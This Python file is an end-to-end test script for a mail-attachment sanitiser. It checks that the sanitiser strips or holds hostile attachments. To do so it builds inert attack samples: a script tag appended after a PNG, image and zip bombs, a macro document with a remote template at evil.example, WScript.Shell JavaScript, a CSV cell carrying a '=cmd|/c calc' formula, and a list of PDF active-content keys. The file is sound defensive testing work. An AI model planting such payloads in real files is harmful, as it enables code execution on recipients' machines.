#!/usr/bin/env python3
"""cdr_check.py BUILD TMP TESTDB ROOT - sanitised copies of attachments,
end to end through "mugai sanitize" and the sandboxed mugai-convert.

Each case mails one attachment (made here, or by scripts/make-pdf-fixtures
and tests/e2e/mkjpeg.c), runs the CLI with the test ClamAV database and
the default policy, and judges the delivered copy by its bytes: what must
be gone is gone, what must stay is there.  Prints PASS/FAIL lines."""

import email
import email.policy
import io
import json
import os
import re
import struct
import subprocess
import sys
import zipfile
import zlib
from email.message import EmailMessage

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import cli_case  # noqa: E402  (beside this file)

BUILD, TMP, TESTDB, ROOT = sys.argv[1:5]
MUGAI = os.path.join(BUILD, 'mugai')
failed = 0


def result(name, ok, why=''):
    global failed
    if ok:
        print('PASS cdr/%s' % name)
    else:
        failed = 1
        print('FAIL cdr/%s: %s' % (name, why))


def message(name, data, mtype):
    return cli_case.message(name, data, mtype, 'cdr', 'attachment ' + name)


def sanitize(case, raw, *opts):
    return cli_case.sanitize(MUGAI, TESTDB, TMP, case, raw, *opts)


attachments = cli_case.attachments


def body_text(msg):
    for p in msg.walk():
        if p.get_content_type() == 'text/plain' and not p.get_filename():
            return p.get_content()
    return ''


def row(report, name):
    for p in report.get('parts', []):
        if p.get('name') == name:
            return p
    return {}


def png(width, height, pixels=None, extra=b''):
    def chunk(kind, data):
        c = struct.pack('>I', len(data)) + kind + data
        return c + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
    ihdr = struct.pack('>IIBBBBB', width, height, 8, 2, 0, 0, 0)
    if pixels is None:
        pixels = b''.join(b'\0' + b''.join(bytes([(x * 40) % 256,
                          (y * 40) % 256, 128]) for x in range(width))
                          for y in range(height))
    return (b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', ihdr) +
            chunk(b'tEXt', b'Comment\0secret-metadata') +
            chunk(b'IDAT', zlib.compress(pixels)) + chunk(b'IEND', b'') + extra)


def case_png_payload():
    payload = b'PK\x03\x04PAYLOAD-AFTER-IEND<script>alert(1)</script>'
    rc, msg, rep, err = sanitize('png', message('graph.png',
                                 png(16, 12, extra=payload), 'image/png'))
    if rc != 0:
        return result('png-trailing-payload', False, 'exit %d: %s' % (rc, err))
    att = attachments(msg)
    data = att[0].get_content() if att else b''
    ok = (len(att) == 1 and att[0].get_content_type() == 'image/png' and
          data.startswith(b'\x89PNG') and data.endswith(b'IEND\xaeB`\x82')
          and b'PAYLOAD' not in data and b'secret-metadata' not in data)
    result('png-trailing-payload', ok, 'attachment %r' % data[-40:])
    result('png-notice', '描き直しました' in body_text(msg) and
           row(rep, 'graph.png').get('action') == 'converted',
           'notice or report row missing')


def case_png_bomb():
    # The header claims 100000 x 100000 pixels; the data is tiny.
    ihdr = struct.pack('>IIBBBBB', 100000, 100000, 8, 2, 0, 0, 0)
    raw = png(1, 1)
    bomb = raw[:16] + ihdr + struct.pack(
        '>I', zlib.crc32(b'IHDR' + ihdr) & 0xffffffff) + raw[33:]
    rc, msg, rep, err = sanitize('png-bomb', message('huge.png', bomb,
                                 'image/png'))
    r = row(rep, 'huge.png')
    result('image-bomb-removed', rc == 0 and not attachments(msg) and
           r.get('action') == 'removed' and r.get('reason') == 'too-big' and
           '100000' in err, 'exit %d, row %r, log %r' % (rc, r, err[-300:]))


def tiff(w, h):
    """An uncompressed RGB baseline TIFF, little-endian."""
    pixels = bytes((x * 9 + y) % 256 for y in range(h) for x in range(w * 3))
    tags = [(256, 3, 1, w), (257, 3, 1, h), (258, 3, 3, 0), (259, 3, 1, 1),
            (262, 3, 1, 2), (273, 4, 1, 0), (277, 3, 1, 3), (278, 3, 1, h),
            (279, 4, 1, len(pixels))]
    ifd_at = 8
    bps_at = ifd_at + 2 + 12 * len(tags) + 4
    data_at = bps_at + 6
    out = b'II*\0' + struct.pack('<I', ifd_at) + struct.pack('<H', len(tags))
    for tag, typ, count, value in tags:
        if tag == 258:
            value = bps_at
        elif tag == 273:
            value = data_at
        if typ == 3 and count == 1:
            out += struct.pack('<HHIHH', tag, typ, count, value, 0)
        else:
            out += struct.pack('<HHII', tag, typ, count, value)
    return out + b'\0\0\0\0' + struct.pack('<HHH', 8, 8, 8) + pixels


def bmp(w, h):
    """A 24-bit bottom-up BMP."""
    row = (w * 3 + 3) & ~3
    pixels = b''.join(bytes((x * 20) % 256 for x in range(w * 3)) +
                      b'\0' * (row - w * 3) for _ in range(h))
    head = struct.pack('<IiiHHIIiiII', 40, w, h, 1, 24, 0, len(pixels),
                       2835, 2835, 0, 0)
    return (b'BM' + struct.pack('<IHHI', 14 + 40 + len(pixels), 0, 0, 54) +
            head + pixels)


def case_image_formats():
    """Each format through the real sandbox: a PNG copy, same size."""
    for name, data, mtype in (('scan.tif', tiff(20, 10), 'image/tiff'),
                              ('paint.bmp', bmp(20, 10), 'image/bmp')):
        rc, msg, rep, err = sanitize('fmt-' + name, message(name, data,
                                     mtype))
        att = attachments(msg) if msg else []
        out = att[0].get_content() if att else b''
        size = struct.unpack('>II', out[16:24]) if len(out) > 24 else None
        result('image-format-' + name.split('.')[1], rc == 0 and
               len(att) == 1 and out.startswith(b'\x89PNG') and
               size == (20, 10) and att[0].get_filename() ==
               name.split('.')[0] + '.png',
               'exit %d, %d attachments, size %r, log %s' %
               (rc, len(att), size, err[-300:]))


def case_jpeg_exif():
    src = os.path.join(TMP, 'exif.jpg')
    if not os.path.exists(src):
        return result('jpeg-exif', False, 'mkjpeg did not make ' + src)
    rc, msg, rep, err = sanitize('jpeg', message('photo.jpg',
                                 open(src, 'rb').read(), 'image/jpeg'))
    if rc != 0:
        return result('jpeg-exif', False, 'exit %d: %s' % (rc, err))
    att = attachments(msg)
    data = att[0].get_content() if att else b''
    ok = (len(att) == 1 and att[0].get_content_type() == 'image/jpeg' and
          data.startswith(b'\xff\xd8') and b'Exif' not in data and
          b'GPS-SECRET' not in data and att[0].get_filename() == 'photo.jpg')
    result('jpeg-exif-removed', ok, 'attachment %d bytes' % len(data))


def pdf_pages(data):
    return data.count(b'/Type /Page') - data.count(b'/Type /Pages')


def case_pdf_active():
    src = os.path.join(TMP, 'pdf', 'active.pdf')
    rc, msg, rep, err = sanitize('pdf', message('議事録.pdf',
                                 open(src, 'rb').read(), 'application/pdf'))
    if rc != 0:
        return result('pdf-active', False, 'exit %d: %s' % (rc, err))
    att = attachments(msg)
    data = att[0].get_content() if att else b''
    # Keys are looked for outside the streams: JPEG bytes may hold "/JS".
    dicts = re.sub(rb'stream\r?\n.*?endstream', b'', data, flags=re.S)
    bad = [k for k in (b'/JavaScript', b'/JS', b'/OpenAction', b'/AA',
                       b'/EmbeddedFile', b'/Launch', b'/AcroForm', b'evil')
           if k in dicts]
    result('pdf-active-rebuilt', len(att) == 1 and
           data.startswith(b'%PDF-') and not bad and
           att[0].get_filename() == '議事録.pdf',
           'active keys %r, %d attachments' % (bad, len(att)))
    result('pdf-same-page-count', pdf_pages(data) == 3,
           '%d pages' % pdf_pages(data))
    # The copy keeps the words (its text layer), not the scripts.
    copy = os.path.join(TMP, 'pdf', 'active-copy.pdf')
    with open(copy, 'wb') as f:
        f.write(data)
    text = subprocess.run(['pdftotext', copy, '-'], capture_output=True
                          ).stdout.decode('utf-8', 'replace')
    result('pdf-text-kept', 'Minutes of the meeting' in text and
           'Total 1,000,000 yen' in text, 'pdftotext %r' % text[:300])


def case_pdf_encrypted():
    src = os.path.join(TMP, 'pdf', 'encrypted.pdf')
    rc, msg, rep, err = sanitize('pdf-enc', message('secret.pdf',
                                 open(src, 'rb').read(), 'application/pdf'))
    r = row(rep, 'secret.pdf')
    result('pdf-encrypted-held', rc == 0 and not attachments(msg) and
           r.get('reason') == 'encrypted' and
           'パスワード' in body_text(msg), 'exit %d row %r' % (rc, r))


CT_DOCM = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
           'content-types"><Default Extension="rels" ContentType="application'
           '/vnd.openxmlformats-package.relationships+xml"/><Default '
           'Extension="xml" ContentType="application/xml"/><Default '
           'Extension="bin" ContentType="application/vnd.ms-office.'
           'vbaProject"/><Override PartName="/word/document.xml" '
           'ContentType="application/vnd.ms-word.document.macroEnabled.'
           'main+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="word/document.xml"/></Relationships>')
DOC = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
       '<w:document xmlns:w="http://schemas.openxmlformats.org/'
       'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>本文テキスト'
       '</w:t></w:r></w:p></w:body></w:document>')
DOC_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/'
            '2006/relationships"><Relationship Id="rId1" Type="http://'
            'schemas.microsoft.com/office/2006/relationships/vbaProject" '
            'Target="vbaProject.bin"/><Relationship Id="rId2" Type="http://'
            'schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>')


def case_docm():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('[Content_Types].xml', CT_DOCM)
        z.writestr('_rels/.rels', RELS)
        z.writestr('word/document.xml', DOC)
        z.writestr('word/_rels/document.xml.rels', DOC_RELS)
        z.writestr('word/vbaProject.bin', b'\xd0\xcf\x11\xe0AutoOpen macro')
    rc, msg, rep, err = sanitize('docm', message(
        '報告書.docm', buf.getvalue(),
        'application/vnd.ms-word.document.macroEnabled.12'))
    if rc != 0:
        return result('docm-cleaned', False, 'exit %d: %s' % (rc, err))
    att = attachments(msg)
    if len(att) != 1:
        return result('docm-cleaned', False, '%d attachments; log %s' %
                      (len(att), err[-300:]))
    z = zipfile.ZipFile(io.BytesIO(att[0].get_content()))
    names = z.namelist()
    ct = z.read('[Content_Types].xml').decode()
    rels = z.read('word/_rels/document.xml.rels').decode() \
        if 'word/_rels/document.xml.rels' in names else ''
    ok = ('word/vbaProject.bin' not in names and 'macroEnabled' not in ct and
          'evil.example' not in rels and 'vbaProject' not in rels and
          '本文テキスト' in z.read('word/document.xml').decode() and
          att[0].get_filename() == '報告書.docx')
    result('docm-cleaned', ok, 'names %r, file name %r' %
           (names, att[0].get_filename()))


def case_zip_members():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('setup.exe', b'MZ\x90\x00' + b'\x00' * 60 +
                   b'This program cannot be run in DOS mode' + b'\0' * 200)
        z.writestr('readme.txt', 'お知らせ: 資料を送ります。\n'.encode())
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, 'w') as zi:
            zi.writestr('deep/run.js', 'new ActiveXObject("WScript.Shell")')
            zi.writestr('deep/sum.csv', '=cmd|"/c calc"!A1,x\n')
        z.writestr('inner.zip', inner.getvalue())
    rc, msg, rep, err = sanitize('zip', message('資料.zip', buf.getvalue(),
                                 'application/zip'))
    if rc != 0:
        return result('zip-exe-removed', False, 'exit %d: %s' % (rc, err))
    att = attachments(msg)
    names, inner = [], {}
    if len(att) == 1:
        z = zipfile.ZipFile(io.BytesIO(att[0].get_content()))
        names = z.namelist()
        if 'inner.zip' in names:
            zi = zipfile.ZipFile(io.BytesIO(z.read('inner.zip')))
            inner = {n: zi.read(n) for n in zi.namelist()}
    result('zip-exe-removed', names == ['readme.txt', 'inner.zip'],
           'members %r, log %s' % (names, err[-300:]))
    # The nested zip: each member by the same policy, text cannot run.
    result('zip-nested-sanitised', sorted(inner) ==
           ['deep/run.js.txt', 'deep/sum.csv'] and
           inner.get('deep/sum.csv', b'').startswith(b"'=cmd"),
           'inner members %r' % inner)
    result('zip-notice-names-member', 'setup.exe' in body_text(msg),
           'notice does not name setup.exe')


def case_zip_password():
    src = os.path.join(TMP, 'ppap.zip')
    if not os.path.exists(src):
        return result('zip-password-held', False, 'zip -P did not run')
    rc, msg, rep, err = sanitize('ppap', message('見積書.zip',
                                 open(src, 'rb').read(), 'application/zip'))
    r = row(rep, '見積書.zip')
    result('zip-password-held', rc == 0 and not attachments(msg) and
           r.get('reason') == 'encrypted' and 'パスワード' in body_text(msg),
           'exit %d row %r' % (rc, r))


def case_zip_bomb():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        with z.open('zeros.bin', 'w', force_zip64=False) as f:
            chunk = b'\0' * (1 << 20)
            for _ in range(150):
                f.write(chunk)
    rc, msg, rep, err = sanitize('bomb', message('bomb.zip', buf.getvalue(),
                                 'application/zip'))
    r = row(rep, 'bomb.zip')
    result('zip-bomb-removed', rc == 0 and not attachments(msg) and
           r.get('action') == 'removed' and
           r.get('reason') in ('too-big', 'unscanned'),
           'exit %d row %r' % (rc, r))


RTF = (r'{\rtf1\ansi\deff0{\fonttbl{\f0 IPAGothic;}}'
       r'\f0\fs24 \u35696?\u20107?\u37682? meeting minutes\par}')


def case_rtf_office():
    """RTF through LibreOffice: a docx (office_output = ooxml, the
    default) or a one-page PDF (office_output = pdf); more cases in
    tests/e2e/office.sh."""
    if not os.access('/usr/bin/soffice', os.X_OK):
        return result('rtf-to-docx', False, 'LibreOffice is not installed '
                      '(sh scripts/setup)')
    rc, msg, rep, err = sanitize('rtf', message('minutes.rtf', RTF.encode(),
                                 'application/rtf'))
    att = attachments(msg) if msg else []
    data = att[0].get_content() if att else b''
    result('rtf-to-docx', rc == 0 and len(att) == 1 and
           data.startswith(b'PK\x03\x04') and
           b'word/document.xml' in data and
           att[0].get_filename() == 'minutes.docx',
           'exit %d, %d attachments, log %s' % (rc, len(att), err[-300:]))
    rc, msg, rep, err = sanitize('rtf-pdf', message(
        'minutes.rtf', RTF.encode(), 'application/rtf'), 'office_output=pdf')
    att = attachments(msg) if msg else []
    data = att[0].get_content() if att else b''
    result('rtf-to-pdf', rc == 0 and len(att) == 1 and
           data.startswith(b'%PDF-') and pdf_pages(data) == 1 and
           att[0].get_filename() == 'minutes.pdf',
           'exit %d, %d attachments, log %s' % (rc, len(att), err[-300:]))


def case_sandbox_kill():
    """A worker that breaks out of its job is killed; the part is held."""
    fake = os.path.join(TMP, 'bad-worker')
    with open(fake, 'w') as f:
        f.write('#!/bin/sh\nshift\nexec %s test-connect "$@"\n' %
                os.path.join(BUILD, 'mugai-convert'))
    os.chmod(fake, 0o755)
    rc, msg, rep, err = sanitize('sandbox', message('graph.png', png(4, 4),
                                 'image/png'), 'convert_worker=' + fake)
    r = row(rep, 'graph.png')
    result('sandbox-kill-held', rc == 0 and not attachments(msg) and
           r.get('reason') == 'convert-failed' and 'signal' in err,
           'exit %d row %r log %s' % (rc, r, err[-300:]))


def case_time_budget():
    """convert_message_timeout: a worker that hangs gets only what is left
    of the message's time; once it is used up the other attachments are
    held without a worker being started."""
    runs = os.path.join(TMP, 'slow-worker-runs')
    fake = os.path.join(TMP, 'slow-worker')
    with open(fake, 'w') as f:
        f.write('#!/bin/sh\necho run >> %s\nexec sleep 30\n' % runs)
    os.chmod(fake, 0o755)
    msg = EmailMessage()
    msg['From'] = 'sender@example.com'
    msg['To'] = 'staff@city.example.lg.jp'
    msg['Subject'] = 'three graphs'
    msg.set_content('本文です。\n')
    names = ['graph%d.png' % i for i in range(3)]
    for i, n in enumerate(names):
        msg.add_attachment(png(4, 4 + i), maintype='image', subtype='png',
                           filename=n)
    rc, out, rep, err = sanitize('time-budget', msg.as_bytes(),
                                 'convert_worker=' + fake,
                                 'convert_message_timeout=2s')
    started = len(open(runs).read().split()) if os.path.exists(runs) else 0
    reasons = [row(rep, n).get('reason') for n in names]
    result('time-budget-held', rc == 0 and not attachments(out) and
           reasons == ['time'] * 3,
           'exit %d reasons %r log %s' % (rc, reasons, err[-300:]))
    result('time-budget-one-worker', started == 1,
           '%d workers started, want 1 (the others had no time left)'
           % started)
    # 2 s, or 1 when the scan before it crossed a second.
    result('time-budget-logged', re.search(r'timed out after [12] s', err)
           and
           'conversion time is used up (convert_message_timeout 2 s)' in err,
           'log %s' % err[-400:])
    result('time-budget-notice', out is not None and
           'it took too long to convert' in body_text(out),
           'notice %r' % (body_text(out)[-400:] if out else None))


for case in (case_png_payload, case_png_bomb, case_image_formats,
             case_jpeg_exif, case_pdf_active,
             case_pdf_encrypted, case_docm, case_zip_members,
             case_zip_password, case_zip_bomb, case_rtf_office,
             case_sandbox_kill, case_time_budget):
    try:
        case()
    except Exception as e:  # a broken case fails, the others still run
        result(case.__name__[5:], False, 'exception %r' % e)
sys.exit(failed)
